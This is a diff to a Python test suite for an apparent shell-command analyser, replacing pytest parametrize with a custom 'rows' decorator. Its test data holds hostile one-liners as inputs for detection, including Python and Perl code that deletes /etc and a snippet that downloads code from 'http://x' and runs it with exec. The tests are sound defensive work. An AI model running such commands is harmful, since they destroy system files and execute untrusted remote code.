@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 
 from bus.shell import UNKNOWN, commands
+from tests.support.rows import rows
 from tests.support.waiting import cpu_at_most
 
 
@@ -13,7 +14,7 @@ def lines(text: str) -> list[str]:
 
 
 @pytest.mark.req("X-09")
-@pytest.mark.parametrize(
+@rows(
     ("code", "expected"),
     [
         ("import shutil; shutil.rmtree('/etc')", "rm -r /etc"),
@@ -67,7 +68,7 @@ def lines(text: str) -> list[str]:
         ("import requests; requests.delete('https://api.x/y')", "curl -X DELETE https://api.x/y"),
     ],
 )
-@pytest.mark.parametrize(
+@rows(
     "form",
     ["python3 -c {quoted}", "python3 <<'EOF'\n{code}\nEOF", "python -Sc {quoted}", "python3.12 - <<'E'\n{code}\nE"],
 )
@@ -78,7 +79,7 @@ def test_python(form: str, code: str, expected: str) -> None:
 
 
 @pytest.mark.req("X-09")
-@pytest.mark.parametrize(
+@rows(
     ("text", "expected"),
     [
         ("perl -e 'unlink \"/etc/x\"'", "rm /etc/x"),
@@ -133,7 +134,7 @@ def test_other_languages(text: str, expected: str) -> None:
 
 
 @pytest.mark.req("X-09")
-@pytest.mark.parametrize(
+@rows(
     "text",
     [
         "python3 -c \"import os; print('rm -rf /')\"",
@@ -156,7 +157,7 @@ def test_code_that_does_no_harm_runs_no_command(text: str) -> None:
 
 
 @pytest.mark.req("X-09")
-@pytest.mark.parametrize(
+@rows(
     ("text", "source"),
     [
         ("python3 -c \"import urllib.request as u; exec(u.urlopen('http://x').read())\"", "curl"),
@@ -185,7 +186,7 @@ def test_code_from_the_network(text: str, source: str) -> None:
 
 
 @pytest.mark.req("X-09")
-@pytest.mark.parametrize(
+@rows(
     "code",
     [
         "x='a'*9\n" + "x=x+x\n" * 200,
@@ -222,7 +223,7 @@ def test_what_code_does_not_tell_is_marked() -> None:
 
 
 @pytest.mark.req("X-09")
-@pytest.mark.parametrize(
+@rows(
     ("text", "expected"),
     [
         ("python3 -c 'import shutil, sys; shutil.rmtree(sys.argv[1])' /etc", "rm -r /etc"),
